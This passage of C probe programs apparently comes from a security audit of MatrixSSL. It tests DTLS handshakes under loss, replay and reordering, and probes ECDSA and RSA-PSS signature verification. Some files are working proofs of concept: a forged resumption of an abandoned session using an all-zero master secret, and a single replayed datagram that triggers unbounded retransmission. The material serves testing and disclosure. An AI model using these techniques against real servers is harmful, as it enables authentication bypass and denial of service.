    }
    matrixSslDeleteSession(cl.ssl);
    matrixSslDeleteSession(sv.ssl);
    return ok;
}

int main(int argc, char **argv)
{
    int pmtu = argc > 1 ? atoi(argv[1]) : 400;
    static const struct { int32 f; psCipher16_t c; const char *n; } cfg[] = {
        { SSL_FLAGS_TLS_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, "DTLS1.2 RSA-CBC" },
        { SSL_FLAGS_TLS_1_2, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, "DTLS1.2 ECDHE-GCM" },
        { SSL_FLAGS_TLS_1_1, TLS_RSA_WITH_AES_128_CBC_SHA, "DTLS1.0 RSA-CBC" },
    };
    int v, k, n, fails = 0, runs = 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (h_init(pmtu) < 0)
    {
        return 2;
    }
    for (v = 0; v < 3; v++)
    {
        faultKind = F_NONE; faultAt = -1;
        if (!run(cfg[v].f, cfg[v].c, 0))
        {
            printf("%s: control failed\n", cfg[v].n);
            return 2;
        }
        n = total;
        printf("%s pmtu %d: %d datagrams in a clean handshake\n", cfg[v].n, pmtu, n);
        for (faultKind = F_DROP; faultKind < F_MAX; faultKind++)
        {
            for (k = 0; k < n + 2; k++)
            {
                faultAt = k;
                runs++;
                if (!run(cfg[v].f, cfg[v].c, 0))
                {
                    fails++;
                }
            }
        }
    }
    printf("RESULT: %d of %d single-fault schedules failed\n", fails, runs);
    return fails ? 1 : 0;
}
