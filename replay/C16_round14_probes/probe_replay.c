/*
    Probe (side observation hunting, NOT the demo): replay sweep.
    After an in-order handshake every captured datagram is replayed to its
    receiver at three positions: (1) before any application data, (2) after one
    application record in each direction, (3) in reverse order. Application
    records must be delivered exactly once, and fresh records must still get
    through afterwards.
    exit 0 = nothing found, 1 = a replayed record was delivered twice or the
    connection broke.
 */
#include "harness.h"

static dgq_t c2s, s2c, logC2S, logS2C, scratch1, scratch2;
static int bad;

static void capture(dgq_t *log, dgq_t *q)
{
    int i;
    for (i = 0; i < q->n && log->n < MAXDG; i++)
    {
        log->d[log->n++] = q->d[i];
    }
}

static void check(const char *where, peer_t *cl, peer_t *sv, int wantC, int wantS)
{
    if (cl->failed || sv->failed || cl->nApp != wantC || sv->nApp != wantS)
    {
        printf("  PROBLEM %s: client failed=%d rc=%d app=%d (want %d) "
            "server failed=%d rc=%d app=%d (want %d)\n", where,
            cl->failed, cl->failRc, cl->nApp, wantC,
            sv->failed, sv->failRc, sv->nApp, wantS);
        bad++;
    }
}

static void sweep(const char *name, peer_t *cl, peer_t *sv, int reverse,
    int wantC, int wantS)
{
    int i, k, nC = logC2S.n, nS = logS2C.n;

    for (k = 0; k < nC; k++)
    {
        i = reverse ? nC - 1 - k : k;
        scratch1.n = 0;
        h_deliver(sv, &logC2S.d[i], &scratch1);
        /* what the server answers reaches the client */
        scratch2.n = 0;
        h_deliverAll(cl, &scratch1, &scratch2);
        scratch1.n = 0;
        h_deliverAll(sv, &scratch2, &scratch1);
    }
    for (k = 0; k < nS; k++)
    {
        i = reverse ? nS - 1 - k : k;
        scratch1.n = 0;
        h_deliver(cl, &logS2C.d[i], &scratch1);
        scratch2.n = 0;
        h_deliverAll(sv, &scratch1, &scratch2);
        scratch1.n = 0;
        h_deliverAll(cl, &scratch2, &scratch1);
    }
    check(name, cl, sv, wantC, wantS);
}

static int run(int32 version, const char *verName, psCipher16_t cipher,
    int sweepBeforeData)
{
    peer_t cl, sv;
    int round, before = bad;

    c2s.n = s2c.n = logC2S.n = logS2C.n = 0;
    if (h_newPair(&cl, &sv, version, cipher, NULL) < 0)
    {
        return -2;
    }
    h_flush(&cl, &c2s);
    for (round = 0; round < 10 && !(cl.hsComplete && sv.hsComplete); round++)
    {
        capture(&logC2S, &c2s);
        h_deliverAll(&sv, &c2s, &s2c);
        capture(&logS2C, &s2c);
        h_deliverAll(&cl, &s2c, &c2s);
    }
    if (!(cl.hsComplete && sv.hsComplete))
    {
        printf("%s: control handshake failed\n", verName);
        return -2;
    }
    printf("%s cipher 0x%04x sweepBeforeData=%d\n", verName, cipher,
        sweepBeforeData);
    if (sweepBeforeData)
    {
        sweep("replay before any app data", &cl, &sv, 0, 0, 0);
    }
    c2s.n = 0; h_sendApp(&cl, "A1", &c2s); capture(&logC2S, &c2s);
    h_deliverAll(&sv, &c2s, &s2c);
    s2c.n = 0; h_sendApp(&sv, "B1", &s2c); capture(&logS2C, &s2c);
    h_deliverAll(&cl, &s2c, &c2s);
    check("first data exchange", &cl, &sv, 1, 1);

    sweep("replay after data", &cl, &sv, 0, 1, 1);
    sweep("reverse replay after data", &cl, &sv, 1, 1, 1);

    c2s.n = 0; h_sendApp(&cl, "A2", &c2s); capture(&logC2S, &c2s);
    h_deliverAll(&sv, &c2s, &s2c);
    s2c.n = 0; h_sendApp(&sv, "B2", &s2c); capture(&logS2C, &s2c);
    h_deliverAll(&cl, &s2c, &c2s);
    check("second data exchange", &cl, &sv, 2, 2);
    sweep("replay after second data", &cl, &sv, 1, 2, 2);

    matrixSslDeleteSession(cl.ssl);
    matrixSslDeleteSession(sv.ssl);
    return bad - before;
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (h_init(1400) < 0)
    {
        return 2;
    }
    run(SSL_FLAGS_TLS_1_2, "DTLS 1.2", TLS_RSA_WITH_AES_128_CBC_SHA, 0);
    run(SSL_FLAGS_TLS_1_2, "DTLS 1.2", TLS_RSA_WITH_AES_128_CBC_SHA, 1);
    run(SSL_FLAGS_TLS_1_2, "DTLS 1.2", TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0);
    run(SSL_FLAGS_TLS_1_2, "DTLS 1.2", TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 1);
    run(SSL_FLAGS_TLS_1_1, "DTLS 1.0", TLS_RSA_WITH_AES_128_CBC_SHA, 0);
    run(SSL_FLAGS_TLS_1_1, "DTLS 1.0", TLS_RSA_WITH_AES_128_CBC_SHA, 1);
    printf("RESULT: %s\n", bad ? "problems found" : "nothing found");
    return bad ? 1 : 0;
}
