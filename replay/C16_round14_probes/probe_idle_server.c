/*
    Probe (side observation): matrixDtlsGetOutdata on a server session that has
    not received anything yet (e.g. an application that arms its retransmission
    timer when it creates the session). Does the session survive?
    exit 0 = handshake still completes afterwards, 1 = session is dead.
 */
#include "harness.h"
static dgq_t c2s, s2c;
int main(void)
{
    peer_t cl, sv;
    unsigned char *buf;
    int32 rc;
    int round;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (h_init(1400) < 0 ||
        h_newPair(&cl, &sv, SSL_FLAGS_TLS_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, NULL) < 0)
    {
        return 2;
    }
    rc = matrixDtlsGetOutdata(sv.ssl, &buf);
    printf("matrixDtlsGetOutdata on an idle server session returns %d\n", (int) rc);
    h_flush(&cl, &c2s);
    for (round = 0; round < 10 && !(cl.hsComplete && sv.hsComplete); round++)
    {
        h_deliverAll(&sv, &c2s, &s2c);
        h_deliverAll(&cl, &s2c, &c2s);
    }
    printf("handshake afterwards: client complete=%d server complete=%d "
        "server failed=%d rc=%d\n", cl.hsComplete, sv.hsComplete, sv.failed, sv.failRc);
    return (cl.hsComplete && sv.hsComplete) ? 0 : 1;
}
