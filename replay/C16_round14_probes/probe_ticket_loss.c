/*
    Probe (side observation): DTLS full handshake in which the client asks for
    a session ticket (options.ticketResumption = 1) and the server has ticket
    keys, so that the server's last flight is NewSessionTicket + CCS +
    Finished. That flight is lost once; the retransmission must complete the
    handshake.
    exit 0 = completes, 1 = handshake never completes, 2 = control failed.
 */
#include "harness.h"

static dgq_t c2s, s2c;

static int run(int dropFinal)
{
    peer_t cl, sv;
    sslSessOpts_t opts;
    sslSessionId_t *sid = NULL;
    psCipher16_t ciphers[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };
    int round, dropped = 0, ok;

    memset(&cl, 0, sizeof(cl)); memset(&sv, 0, sizeof(sv));
    cl.name = "client"; sv.name = "server";
    c2s.n = s2c.n = 0;
    matrixSslNewSessionId(&sid, NULL);
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    if (matrixSslNewServerSession(&sv.ssl, h_svKeys, NULL, &opts) < 0) return -2;
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    opts.ticketResumption = 1;
    if (matrixSslNewClientSession(&cl.ssl, h_clKeys, sid, ciphers, 1, h_certCb,
            NULL, NULL, NULL, &opts) != MATRIXSSL_REQUEST_SEND) return -2;

    h_flush(&cl, &c2s);
    for (round = 0; round < 20 && !(cl.hsComplete && sv.hsComplete) &&
         !cl.failed && !sv.failed; round++)
    {
        h_deliverAll(&sv, &c2s, &s2c);
        /* the server's last flight starts with NewSessionTicket (hs type 4)
           or, without tickets, with the ChangeCipherSpec (record type 20) */
        if (dropFinal && !dropped && s2c.n > 0 &&
            ((s2c.d[0].b[0] == 22 && s2c.d[0].b[13] == 4) || s2c.d[0].b[0] == 20))
        {
            printf("  dropping the server's last flight (%d datagram(s), first "
                "record type %d hs type %d)\n", s2c.n, s2c.d[0].b[0], s2c.d[0].b[13]);
            s2c.n = 0;
            dropped = 1;
        }
        h_deliverAll(&cl, &s2c, &c2s);
        if (c2s.n == 0 && s2c.n == 0 && !(cl.hsComplete && sv.hsComplete))
        {
            h_flush(&cl, &c2s);
            h_flush(&sv, &s2c);
        }
    }
    ok = cl.hsComplete && sv.hsComplete && !cl.failed && !sv.failed;
    printf("  dropFinal=%d: client complete=%d failed=%d rc=%d alert-from-server=%d; "
        "server complete=%d failed=%d rc=%d alert-from-client=%d\n", dropFinal,
        cl.hsComplete, cl.failed, cl.failRc, cl.alertDesc,
        sv.hsComplete, sv.failed, sv.failRc, sv.alertDesc);
    matrixSslDeleteSession(cl.ssl);
    matrixSslDeleteSession(sv.ssl);
    matrixSslDeleteSessionId(sid);
    return ok ? 0 : -1;
}

int main(void)
{
    static const unsigned char name[16] = "ticket-key-name";
    static const unsigned char sym[32] = "0123456789abcdef0123456789abcde";
    static const unsigned char mac[32] = "fedcba9876543210fedcba987654321";
    int rc;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (h_init(1400) < 0) return 2;
    if (matrixSslLoadSessionTicketKeys(h_svKeys, name, sym, 32, mac, 32) < 0)
    {
        printf("ticket key load failed\n");
        return 2;
    }
    printf("control (nothing lost):\n");
    if (run(0) != 0) return 2;
    printf("server's NewSessionTicket+CCS+Finished flight lost once:\n");
    rc = run(1);
    printf("RESULT: %s\n", rc == 0 ? "handshake completed after retransmission" :
        "handshake NEVER completes after the loss");
    return rc == 0 ? 0 : 1;
}
