/*
    Probe (side observation hunting, NOT the demo): randomized lossy network.
    Every datagram is independently dropped (p=0.2), duplicated (p=0.2) and
    delivered in random order. Idle network = both timers fire. After the
    handshake every datagram ever sent is replayed in random order, then
    application records are exchanged and replayed as well; each must be
    delivered exactly once.
 */
#include "harness.h"

static dgq_t pool[2];      /* 0: towards server, 1: towards client */
static dgq_t everything[2];
static dgq_t fresh;
static unsigned int rng = 1;
static unsigned int rnd(void) { rng = rng * 1103515245u + 12345u; return (rng >> 16) & 0x7fff; }

static void inject(int dir, dgq_t *q, int lossy)
{
    int i;
    for (i = 0; i < q->n; i++)
    {
        if (everything[dir].n < MAXDG) everything[dir].d[everything[dir].n++] = q->d[i];
        if (lossy && rnd() % 100 < 20) continue;
        if (pool[dir].n < MAXDG) pool[dir].d[pool[dir].n++] = q->d[i];
        if (lossy && rnd() % 100 < 20 && pool[dir].n < MAXDG) pool[dir].d[pool[dir].n++] = q->d[i];
    }
    q->n = 0;
}

static int step(peer_t *cl, peer_t *sv, int lossy)
{
    int dir, k;
    dgram_t d;

    if (pool[0].n == 0 && pool[1].n == 0) return 0;
    dir = rnd() & 1;
    if (pool[dir].n == 0) dir ^= 1;
    k = rnd() % pool[dir].n;
    d = pool[dir].d[k];
    pool[dir].d[k] = pool[dir].d[--pool[dir].n];
    fresh.n = 0;
    h_deliver(dir == 0 ? sv : cl, &d, &fresh);
    inject(dir ^ 1, &fresh, lossy);
    return 1;
}

static int one(unsigned int seed, int32 ver, psCipher16_t cipher, int pmtuTag)
{
    peer_t cl, sv;
    int steps = 0, ok, i, timeouts = 0, svGot = 0;

    rng = seed;
    pool[0].n = pool[1].n = everything[0].n = everything[1].n = 0;
    if (h_newPair(&cl, &sv, ver, cipher, NULL) < 0) exit(2);
    fresh.n = 0; h_flush(&cl, &fresh); inject(0, &fresh, 1);
    while (!(cl.hsComplete && sv.hsComplete) && !cl.failed && !sv.failed &&
           steps < 3000 && timeouts < 200)
    {
        if (pool[0].n) svGot = 1;
        if (!step(&cl, &sv, 1))
        {
            timeouts++;
            fresh.n = 0; h_flush(&cl, &fresh); inject(0, &fresh, 1);
            if (svGot) { fresh.n = 0; h_flush(&sv, &fresh); inject(1, &fresh, 1); }
        }
        steps++;
    }
    ok = cl.hsComplete && sv.hsComplete && !cl.failed && !sv.failed;
    if (!ok)
    {
        printf("  seed %u: handshake FAILED after %d steps %d timeouts: client complete=%d "
            "failed=%d rc=%d alert=%d; server complete=%d failed=%d rc=%d alert=%d\n", seed, steps,
            timeouts, cl.hsComplete, cl.failed, cl.failRc, cl.alertDesc, sv.hsComplete,
            sv.failed, sv.failRc, sv.alertDesc);
        goto out;
    }
    /* drain, lossless */
    for (i = 0; i < 500 && step(&cl, &sv, 0); i++) ;
    /* app data, then replay everything ever sent (twice, random order) */
    fresh.n = 0; h_sendApp(&cl, "ping", &fresh); inject(0, &fresh, 0);
    for (i = 0; i < 500 && step(&cl, &sv, 0); i++) ;
    fresh.n = 0; h_sendApp(&sv, "pong", &fresh); inject(1, &fresh, 0);
    for (i = 0; i < 500 && step(&cl, &sv, 0); i++) ;
    for (i = 0; i < everything[0].n; i++) pool[0].d[pool[0].n++] = everything[0].d[i];
    for (i = 0; i < everything[1].n && pool[1].n < MAXDG; i++) pool[1].d[pool[1].n++] = everything[1].d[i];
    for (i = 0; i < 2000 && step(&cl, &sv, 0); i++) ;
    fresh.n = 0; h_sendApp(&cl, "ping2", &fresh); inject(0, &fresh, 0);
    for (i = 0; i < 500 && step(&cl, &sv, 0); i++) ;
    fresh.n = 0; h_sendApp(&sv, "pong2", &fresh); inject(1, &fresh, 0);
    for (i = 0; i < 500 && step(&cl, &sv, 0); i++) ;
    ok = !cl.failed && !sv.failed && cl.nApp == 2 && sv.nApp == 2;
    if (!ok)
    {
        printf("  seed %u: DATA problem: client failed=%d rc=%d app=%d; server failed=%d rc=%d app=%d\n",
            seed, cl.failed, cl.failRc, cl.nApp, sv.failed, sv.failRc, sv.nApp);
    }
out:
    matrixSslDeleteSession(cl.ssl);
    matrixSslDeleteSession(sv.ssl);
    return ok;
}

int main(int argc, char **argv)
{
    int pmtu = argc > 1 ? atoi(argv[1]) : 400;
    int n = argc > 2 ? atoi(argv[2]) : 100;
    unsigned int s; int fails = 0;
    setvbuf(stdout, NULL, _IONBF, 0);
    if (h_init(pmtu) < 0) return 2;
    for (s = 1; s <= (unsigned) n; s++)
    {
        fails += !one(s, SSL_FLAGS_TLS_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, pmtu);
        fails += !one(s + 1000, SSL_FLAGS_TLS_1_2, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, pmtu);
        fails += !one(s + 2000, SSL_FLAGS_TLS_1_1, TLS_RSA_WITH_AES_128_CBC_SHA, pmtu);
    }
    printf("RESULT pmtu %d: %d of %d random schedules failed\n", pmtu, fails, 3 * n);
    return fails ? 1 : 0;
}
