/*
    Probe (side observation): after a completed handshake, and before any
    application data has been exchanged, ONE old handshake datagram of the
    server (its ServerHello flight) is replayed to the client. How many
    datagrams do the peers exchange as a consequence?
    exit 0 = the exchange dies down within a few rounds, 1 = still going after
    200 rounds (unbounded retransmission ping-pong).
    usage: probe_pingpong [rounds]   - with 70000 rounds the 16 bit epoch wraps
    and application data is no longer delivered afterwards.
 */
#include "harness.h"
static dgq_t c2s, s2c, logS2C;
int main(int argc, char **argv)
{
    peer_t cl, sv;
    int round, i, total = 0, ok, limit = argc > 1 ? atoi(argv[1]) : 200;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (h_init(1400) < 0 ||
        h_newPair(&cl, &sv, SSL_FLAGS_TLS_1_2, TLS_RSA_WITH_AES_128_CBC_SHA, NULL) < 0)
    {
        return 2;
    }
    h_flush(&cl, &c2s);
    for (round = 0; round < 10 && !(cl.hsComplete && sv.hsComplete); round++)
    {
        h_deliverAll(&sv, &c2s, &s2c);
        for (i = 0; i < s2c.n; i++) logS2C.d[logS2C.n++] = s2c.d[i];
        h_deliverAll(&cl, &s2c, &c2s);
    }
    if (!(cl.hsComplete && sv.hsComplete)) return 2;
    printf("handshake complete; replaying the server's ServerHello datagram "
        "(%d bytes) to the client once\n", logS2C.d[1].len);
    c2s.n = s2c.n = 0;
    h_deliver(&cl, &logS2C.d[1], &c2s);
    for (round = 0; round < limit && (c2s.n || s2c.n); round++)
    {
        total += c2s.n;
        h_deliverAll(&sv, &c2s, &s2c);
        total += s2c.n;
        h_deliverAll(&cl, &s2c, &c2s);
    }
    printf("after %d rounds: %d datagrams exchanged, still in flight: %d; "
        "client failed=%d server failed=%d\n", round, total, c2s.n + s2c.n,
        cl.failed, sv.failed);
    ok = (c2s.n + s2c.n) == 0;
    /* does application data still work and stop it? */
    c2s.n = s2c.n = 0;
    h_sendApp(&cl, "ping", &c2s); h_deliverAll(&sv, &c2s, &s2c);
    s2c.n = 0;
    h_sendApp(&sv, "pong", &s2c); h_deliverAll(&cl, &s2c, &c2s);
    printf("application data afterwards: server got %d, client got %d record(s)\n",
        sv.nApp, cl.nApp);
    printf("RESULT: %s\n", ok ? "retransmissions died down" :
        "UNBOUNDED retransmission ping-pong from one replayed datagram");
    return ok ? 0 : 1;
}
