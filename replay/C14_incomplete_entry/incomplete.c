#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C14: a session-cache entry is created when the server writes its ServerHello (matrixRegisterSession) - with the
   cipher set and the master secret still all zero - and matrixSslDeleteSession -> matrixUpdateSession writes the
   connection's (still zero, or after ClientKeyExchange unproven) secret again when the handshake is abandoned.
   A peer that sends only a ClientHello, reads the session id off the ServerHello, disconnects and then offers that id
   with a 48-byte zero master secret is "resumed": no key exchange, no Finished and no client authentication ever happened
   for that session. */
static const psCipher16_t CS[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char wire[1 << 17];
    sslSessionId_t *forged;
    sslSessOpts_t o;
    int n, rc;
    h_server_keys(&s); h_client_keys(&c);
    /* 1: ClientHello only; the server answers with its hello flight, which the "client" reads and drops */
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_2, CS, 1, h_certCbAllowAll) < 0) return 2;
    n = h_drain(&c, wire, sizeof(wire)); h_feed(&s, wire, n);
    n = h_drain(&s, wire, sizeof(wire));
    printf("abandoned handshake: server hsState=%d, session id on the wire starts %02x%02x%02x%02x %02x%02x..\n", s.ssl->hsState,
        s.ssl->sessionId[0], s.ssl->sessionId[1], s.ssl->sessionId[2], s.ssl->sessionId[3], s.ssl->sessionId[4], s.ssl->sessionId[5]);
    matrixSslNewSessionId(&forged, NULL);
    memcpy(forged->id, s.ssl->sessionId, 32); forged->idLen = 32; forged->cipherId = CS[0];
    memset(forged->masterSecret, 0, sizeof(forged->masterSecret));
    matrixSslDeleteSession(c.ssl); matrixSslDeleteSession(s.ssl);
    /* 2: offer that id with the all-zero master secret */
    c.ssl = s.ssl = NULL; c.hsDone = s.hsDone = c.closed = s.closed = 0;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0) return 2;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewClientSession(&c.ssl, c.keys, forged, CS, 1, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return 2;
    rc = h_handshake(&c, &s);
    n = (s.ssl->flags & SSL_FLAGS_RESUMED) ? 1 : 0;
    printf("id of the abandoned handshake + zero master secret: handshake rc=%d server resumed=%d server done=%d\n", rc, n, s.hsDone);
    printf("RESULT %s\n", (n && s.hsDone) ? "VIOLATED (a session that never completed a handshake was resumed)" : "ok (not resumed)");
    return (n && s.hsDone) ? 1 : 0;
}
