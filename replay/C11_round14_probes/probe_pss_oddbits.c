/*
 *  Side-observation probe (UNMODIFIED code), driven by probe_pss_oddbits.sh.
 *
 *  psRsaPssVerify()/psRsaPssSignHash() hand "keysize * 8" to the EMSA-PSS
 *  coder as the modulus bit length.  RFC 8017 9.1 works with
 *  emBits = modBits - 1 of the REAL modulus: for a modulus whose bit length
 *  is not a multiple of 8 the number of leading zero bits of EM (and for
 *  modBits = 8k+1 even the length of EM) differs.
 *
 *    probe_pss_oddbits verify <key.pem> <msgfile> <sigfile>
 *         -> prints ACCEPTED / refused for an RSASSA-PSS(SHA-256, salt 32)
 *            signature made by an independent implementation (openssl)
 *    probe_pss_oddbits sign <key.pem> <msgfile> <sigfile-out>
 *         -> writes a signature made by the library, to be checked by openssl
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "crypto/cryptoApi.h"

static unsigned char *slurp(const char *fn, size_t *len)
{
    FILE *f = fopen(fn, "rb");
    unsigned char *b;

    if (!f)
    {
        return NULL;
    }
    b = malloc(1 << 16);
    *len = fread(b, 1, 1 << 16, f);
    fclose(f);
    return b;
}

int main(int argc, char **argv)
{
    psPubKey_t key;
    unsigned char *msg, *sig;
    size_t msgLen, sigLen;
    int32_t rc;

    if (argc != 5)
    {
        return 2;
    }
    psCryptoOpen(PSCRYPTO_CONFIG);
    memset(&key, 0, sizeof(key));
    psInitPubKey(NULL, &key, PS_RSA);
    if ((rc = psPkcs1ParsePrivFile(NULL, argv[2], NULL, &key.key.rsa)) < 0)
    {
        printf("cannot parse %s (%d)\n", argv[2], rc);
        return 2;
    }
    key.keysize = psRsaSize(&key.key.rsa);
    key.type = PS_RSA;
    msg = slurp(argv[3], &msgLen);
    if (msg == NULL)
    {
        return 2;
    }
    if (!strcmp(argv[1], "verify"))
    {
        psVerifyOptions_t opts;
        psBool_t ok = PS_FALSE;

        sig = slurp(argv[4], &sigLen);
        if (sig == NULL)
        {
            return 2;
        }
        memset(&opts, 0, sizeof(opts));
        opts.useRsaPss = PS_TRUE;
        opts.rsaPssHashAlg = PKCS1_SHA256_ID;
        opts.rsaPssHashLen = 32;
        opts.rsaPssSaltLen = 32;
        rc = psVerify(NULL, msg, msgLen, sig, (psSize_t) sigLen, &key,
                OID_SHA256_RSA_SIG, &ok, &opts);
        printf("%s\n", (rc == PS_SUCCESS && ok == PS_TRUE) ? "ACCEPTED" : "refused");
    }
    else
    {
        psSignOpts_t sopts;
        unsigned char dig[64], *out = NULL;
        psSize_t digLen = sizeof(dig), outLen = 0;
        FILE *f;

        memset(&sopts, 0, sizeof(sopts));
        sopts.rsaPssHashAlg = PKCS1_SHA256_ID;
        sopts.rsaPssSaltLen = 32;
        psComputeHashForSig(msg, msgLen, OID_SHA256_RSA_SIG, dig, &digLen);
        rc = psSign(NULL, &key, OID_RSASSA_PSS, dig, digLen, &out, &outLen,
                &sopts);
        if (rc < 0 || out == NULL)
        {
            printf("psSign failed (%d)\n", rc);
            return 3;
        }
        f = fopen(argv[4], "wb");
        fwrite(out, 1, outLen, f);
        fclose(f);
        printf("signed, %u octets\n", (unsigned) outLen);
    }
    psCryptoClose();
    return 0;
}
