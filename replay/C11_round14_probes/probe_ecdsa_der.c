/*
 *  Side-observation probe (UNMODIFIED code): which non-DER / out-of-range
 *  encodings of Ecdsa-Sig-Value does psEccDsaVerify() accept?
 *
 *   A  r written without its 0x00 sign octet, i.e. as a NEGATIVE INTEGER
 *   B  r written with an extra (non-minimal) leading 0x00
 *   C  SEQUENCE length in long form (0x81 nn) although nn < 128
 *
 *  prints one line per variant; exit 0 always (it is a probe, not a test).
 */
#include <stdio.h>
#include <string.h>
#include "crypto/cryptoApi.h"

static int verify(const psEccKey_t *key, const unsigned char *dig,
    const unsigned char *sig, psSize_t len, const char *what)
{
    int32_t status = 0, rc;

    rc = psEccDsaVerify(NULL, key, dig, 32, sig, len, &status, NULL);
    printf("  %-58s rc=%d status=%d -> %s\n", what, rc, status,
        (rc >= 0 && status == 1) ? "ACCEPTED" : "refused");
    return rc >= 0 && status == 1;
}

int main(void)
{
    const psEccCurve_t *curve;
    psEccKey_t key;
    unsigned char dig[32], sig[80], v[90];
    psSize_t sigLen;
    int tries;

    psCryptoOpen(PSCRYPTO_CONFIG);
    getEccParamById(IANA_SECP256R1, &curve);
    memset(&key, 0, sizeof(key));
    if (psEccGenKey(NULL, &key, curve, NULL) < 0)
    {
        return 2;
    }
    memset(dig, 0x5a, sizeof(dig));
    for (tries = 0; tries < 200; tries++)
    {
        sigLen = sizeof(sig);
        if (psEccDsaSign(NULL, &key, dig, 32, sig, &sigLen, 0, NULL) < 0)
        {
            return 2;
        }
        /* 30 LL 02 21 00 <32 octets with the top bit set> 02 .. */
        if (sig[3] == 0x21 && sig[4] == 0x00)
        {
            break;
        }
    }
    if (tries == 200)
    {
        printf("no signature with a padded r found\n");
        return 2;
    }
    printf("probe_ecdsa_der (P-256):\n");
    verify(&key, dig, sig, sigLen, "reference signature (DER)");

    /* A: drop the sign octet of r */
    v[0] = 0x30; v[1] = sig[1] - 1; v[2] = 0x02; v[3] = 0x20;
    memcpy(v + 4, sig + 5, sigLen - 5);
    verify(&key, dig, v, sigLen - 1, "A: r without sign octet (a negative INTEGER)");

    /* B: one more leading zero */
    v[0] = 0x30; v[1] = sig[1] + 1; v[2] = 0x02; v[3] = 0x22; v[4] = 0x00;
    memcpy(v + 5, sig + 4, sigLen - 4);
    verify(&key, dig, v, sigLen + 1, "B: r with a second leading 0x00 (non-minimal)");

    /* C: long form length */
    v[0] = 0x30; v[1] = 0x81; v[2] = sig[1];
    memcpy(v + 3, sig + 2, sigLen - 2);
    verify(&key, dig, v, sigLen + 1, "C: SEQUENCE length as 0x81 nn with nn < 128");

    psEccClearKey(&key);
    psCryptoClose();
    return 0;
}
