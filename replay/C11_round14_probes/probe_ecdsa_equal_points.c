/*
 *  Side-observation probe (UNMODIFIED code).
 *
 *  ECDSA verification computes X = u1*G + u2*Q with u1 = e/s, u2 = r/s.
 *  psEccDsaVerify() adds the two products with eccProjectiveAddPoint(),
 *  which only falls back to doubling when the *projective* coordinates of
 *  the operands are identical.  u1*G and u2*Q come out of two independent
 *  scalar multiplications, so when they are the same point they have
 *  different Z, the generic addition yields (0,0,0) and eccMap() fails.
 *
 *  The operands are the same point exactly when e = r*d (mod n).  With the
 *  private key d such a (digest, signature) pair is easy to make and it is a
 *  mathematically valid ECDSA signature on that digest:
 *      k random, R = k*G, r = R.x mod n, e = r*d mod n, s = (e + r*d)/k.
 *  The probe makes one (plus an ordinary one with a random e, to validate
 *  the hand-made signer) and asks psEccDsaVerify() about both.
 *
 *  It needs a digest of the attacker's... no: of the KEY HOLDER's choosing,
 *  so it is reachable only through the digest-level API, not by hashing a
 *  message.  exit 0 always; the lines tell the result.
 */
#include <stdio.h>
#include <string.h>
#include "crypto/cryptoApi.h"

static const psEccCurve_t *curve;
static pstm_int n;

static psSize_t put_int(unsigned char *o, const pstm_int *v)
{
    unsigned char b[70];
    psSize_t len = pstm_unsigned_bin_size(v), pad;

    pstm_to_unsigned_bin(NULL, v, b);
    pad = (b[0] & 0x80) ? 1 : 0;
    o[0] = 0x02; o[1] = (unsigned char) (len + pad);
    if (pad)
    {
        o[2] = 0;
    }
    memcpy(o + 2 + pad, b, len);
    return 2 + pad + len;
}

/* sign the integer e (already reduced mod n) with d, nonce from a fresh key */
static int sign_e(const psEccKey_t *key, int special, unsigned char *dig,
    unsigned char *sig, psSize_t *sigLen)
{
    psEccKey_t eph;
    pstm_int r, e, s, t, kinv;
    psSize_t l;

    memset(&eph, 0, sizeof(eph));
    if (psEccGenKey(NULL, &eph, curve, NULL) < 0)
    {
        return -1;
    }
    pstm_init(NULL, &r); pstm_init(NULL, &e); pstm_init(NULL, &s);
    pstm_init(NULL, &t); pstm_init(NULL, &kinv);
    pstm_mod(NULL, &eph.pubkey.x, &n, &r);
    pstm_mulmod(NULL, &r, &key->k, &n, &t);         /* t = r*d */
    if (special)
    {
        pstm_mod(NULL, &t, &n, &e);                 /* e = r*d */
    }
    else
    {
        pstm_mulmod(NULL, &r, &r, &n, &e);          /* some other value */
    }
    pstm_add(&e, &t, &s);
    pstm_mod(NULL, &s, &n, &s);
    pstm_invmod(NULL, &eph.k, &n, &kinv);
    pstm_mulmod(NULL, &s, &kinv, &n, &s);           /* s = (e + r d)/k */

    memset(dig, 0, curve->size);
    l = pstm_unsigned_bin_size(&e);
    pstm_to_unsigned_bin(NULL, &e, dig + (curve->size - l));

    l = put_int(sig + 2, &r);
    l += put_int(sig + 2 + l, &s);
    sig[0] = 0x30; sig[1] = (unsigned char) l;
    *sigLen = l + 2;

    pstm_clear(&r); pstm_clear(&e); pstm_clear(&s); pstm_clear(&t);
    pstm_clear(&kinv);
    psEccClearKey(&eph);
    return 0;
}

int main(void)
{
    psEccKey_t key;
    unsigned char dig[66], sig[160];
    psSize_t sigLen;
    int32_t rc, status;
    int round;

    psCryptoOpen(PSCRYPTO_CONFIG);
    getEccParamById(IANA_SECP256R1, &curve);
    pstm_init(NULL, &n);
    pstm_read_radix(NULL, &n, curve->order, curve->size * 2, 16);
    memset(&key, 0, sizeof(key));
